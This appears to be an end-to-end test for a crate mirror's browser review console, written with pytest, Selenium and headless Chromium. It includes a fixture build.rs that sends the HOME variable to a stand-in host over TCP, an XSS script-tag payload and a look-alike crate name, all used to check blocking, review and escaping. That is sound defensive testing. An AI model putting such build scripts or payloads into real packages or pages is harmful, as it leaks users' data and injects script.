"""The review console in a real headless Chromium (Debian's `chromium` + `chromium-driver`,
driven by Selenium; nothing downloaded): log in with an admin token, see an evil update (a
new build.rs that opens a socket) pending with its evidence, approve it, and real cargo then
gets that version. A crate name and a source line holding `<script>` render as text.

With CONSOLE_SCREENSHOTS=DIR set, the pages are also saved as PNG files there (that is how
docs/images/console-*.png are made).
"""

from __future__ import annotations

import os
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from mirror.audit import AuditEvent, AuditLog, read_events
from mirror.index import index_path
from mirror.sources.tokens import admin_tokens
from tests.cargo_project import CargoProject
from tests.fixtures.registry import Registry
from tests.fixtures.upstream import FakeUpstream
from tests.mirror_process import MirrorProcess

pytestmark = pytest.mark.e2e

CHROMIUM = "/usr/bin/chromium"
CHROMEDRIVER = "/usr/bin/chromedriver"
HOSTILE = "<script>alert('console')</script>"
EVIL_BUILD_RS = f"""\
use std::io::Write;
use std::net::TcpStream;

// {HOSTILE}
fn main() {{
    if let Ok(mut s) = TcpStream::connect("203.0.113.7:443") {{
        let _ = s.write_all(std::env::var("HOME").unwrap_or_default().as_bytes());
    }}
}}
""".encode()
POLICY = """\
version: 2
rules:
  risk: {mode: block, corpus: popular-crates.txt, protect_top: 2}
  capabilities: {mode: block, lock: capabilities.lock.yaml, first_seen: trust}
"""


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[object]:
    """Headless Chromium from Debian's packages (the test needs them: see .ci/run)."""
    if not (Path(CHROMIUM).exists() and Path(CHROMEDRIVER).exists()):
        pytest.fail("install Debian's chromium and chromium-driver (apt-get install -y chromium "
                    "chromium-driver), as .ci/run does")  # fmt: skip
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    profile = tempfile.mkdtemp(dir=tmp_path)
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--disable-background-networking", "--disable-component-update",
                "--disable-sync", "--no-first-run", f"--user-data-dir={profile}",
                "--window-size=1400,1000"):  # fmt: skip
        options.add_argument(arg)
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    driver.set_page_load_timeout(30)
    try:
        yield driver
    finally:
        driver.quit()


def wait_for(predicate: Callable[[], bool], timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < deadline, "condition not reached"
        time.sleep(0.3)


def test_review_an_evil_update_in_the_browser_then_cargo_gets_it(
    tmp_path: Path, debian_registry: Registry, browser: object
) -> None:
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.common.by import By

    driver = browser
    shots = os.environ.get("CONSOLE_SCREENSHOTS")

    def shot(name: str) -> None:
        if shots:
            Path(shots).mkdir(parents=True, exist_ok=True)
            driver.save_screenshot(str(Path(shots) / f"console-{name}.png"))  # type: ignore[attr-defined]

    def settle(arrived: Callable[[], bool]) -> None:
        """Wait for a navigation a click started, then for the page to be loaded."""
        wait_for(arrived, timeout=15)
        wait_for(lambda: driver.execute_script("return document.readyState") == "complete",  # type: ignore[attr-defined]
                 timeout=15)  # fmt: skip

    def no_script_ran() -> None:
        with pytest.raises(NoAlertPresentException):
            driver.switch_to.alert.text  # type: ignore[attr-defined]  # noqa: B018

    debian_registry.add_crate(
        "tinyhelper", "1.0.0", {"src/lib.rs": b"pub fn add(a: u8, b: u8) -> u8 { a + b }\n"}
    )
    policies = tmp_path / "policies"
    policies.mkdir()
    (policies / "policy.yaml").write_text(POLICY)
    (policies / "popular-crates.txt").write_text("serde\ntinyhelper\n")
    cache = tmp_path / "cache"
    admins = tmp_path / "admins.json"
    token = admin_tokens(admins).add("alice")
    config = tmp_path / "mirror.yaml"
    config.write_text(f"admin_tokens: {admins}\nindex_ttl: 0\n")
    with FakeUpstream(debian_registry).in_thread() as upstream:
        mirror = MirrorProcess(cache, upstream=upstream.url + "/", policy=policies / "policy.yaml",
                               config=config).start()  # fmt: skip
        try:
            project = CargoProject(tmp_path / "app", mirror.index_url, {"tinyhelper": "1"})
            assert project.generate_lockfile().returncode == 0
            assert project.fetch().returncode == 0

            debian_registry.add_crate(
                "tinyhelper",
                "1.0.1",
                {"build.rs": EVIL_BUILD_RS,
                 "src/lib.rs": b"pub fn add(a: u8, b: u8) -> u8 { a + b }\n"},
            )  # fmt: skip
            assert project.run("update").returncode == 0
            assert project.lock_versions()["tinyhelper"] == ["1.0.0"]  # held back
            wait_for(lambda: any(e.get("action") == "block" and e.get("version") == "1.0.1"
                                 for e in read_events(cache / "audit")))  # fmt: skip
            # A name no request can carry (crate names are validated), put in the log as a
            # tampered or foreign entry would be, and a new look-alike the risk rule stops.
            log = AuditLog(cache / "audit")
            log.record(AuditEvent("block", "deny", f"odd name {HOSTILE}", route="index",
                                  crate=HOSTILE, client="10.0.0.9"))  # fmt: skip
            log.close()
            debian_registry.add_crate("tinyhe1per", "0.1.0", {})  # a new look-alike
            assert status_of(mirror.url + "/index/" + index_path("tinyhe1per")) == 403

            driver.get(mirror.url + "/-/pending")  # type: ignore[attr-defined]
            assert "/-/login" in driver.current_url  # type: ignore[attr-defined]
            shot("login")
            driver.find_element(By.ID, "token").send_keys(token)  # type: ignore[attr-defined]
            driver.find_element(By.CSS_SELECTOR, "form button[type=submit]").click()  # type: ignore[attr-defined]
            settle(lambda: driver.current_url.endswith("/-/pending"))  # type: ignore[attr-defined]
            page = driver.find_element(By.TAG_NAME, "main").text  # type: ignore[attr-defined]
            assert "tinyhelper" in page and "1.0.1" in page
            shot("pending")

            driver.find_element(By.LINK_TEXT, "tinyhelper").click()  # type: ignore[attr-defined]
            settle(lambda: "/-/review" in driver.current_url)  # type: ignore[attr-defined]
            review = driver.find_element(By.TAG_NAME, "main").text  # type: ignore[attr-defined]
            assert "+ net" in review and "build.rs:6" in review
            assert "TcpStream::connect" in review
            source = " ".join(e.text for e in driver.find_elements(By.CSS_SELECTOR, "pre.source"))  # type: ignore[attr-defined]
            assert HOSTILE in source  # the source line, as text
            assert not driver.find_elements(By.XPATH, "//main//script")  # type: ignore[attr-defined]
            no_script_ran()
            shot("review")

            driver.find_element(By.ID, "reason").send_keys("reviewed: opt-in telemetry, SEC-42")  # type: ignore[attr-defined]
            driver.find_element(By.XPATH, "//button[@value='approve']").click()  # type: ignore[attr-defined]
            settle(lambda: "/-/decide" in driver.current_url)  # type: ignore[attr-defined]
            assert "1 approved" in driver.find_element(By.TAG_NAME, "h1").text  # type: ignore[attr-defined]

            driver.get(mirror.url + "/-/decisions?action=block")  # type: ignore[attr-defined]
            decisions = driver.find_element(By.TAG_NAME, "main").text  # type: ignore[attr-defined]
            assert HOSTILE in decisions  # the crate name, as text
            assert not driver.find_elements(By.XPATH, "//main//script")  # type: ignore[attr-defined]
            no_script_ran()
            driver.get(mirror.url + "/-/decisions")  # type: ignore[attr-defined]
            shot("decisions")
            driver.get(mirror.url + "/-/near-names")  # type: ignore[attr-defined]
            assert "tinyhe1per" in driver.find_element(By.TAG_NAME, "main").text  # type: ignore[attr-defined]
            shot("near-names")
            driver.get(mirror.url + "/-/status")  # type: ignore[attr-defined]
            assert "Intact" in driver.find_element(By.TAG_NAME, "main").text  # type: ignore[attr-defined]
            shot("status")

            # Real cargo now gets the approved version.
            assert project.run("update").returncode == 0
            assert project.lock_versions()["tinyhelper"] == ["1.0.1"]
            assert project.fetch().returncode == 0
        finally:
            mirror.stop()


def status_of(url: str) -> int:
    try:
        with urllib.request.urlopen(url, timeout=10) as resp:
            return int(resp.status)
    except urllib.error.HTTPError as e:
        return e.code
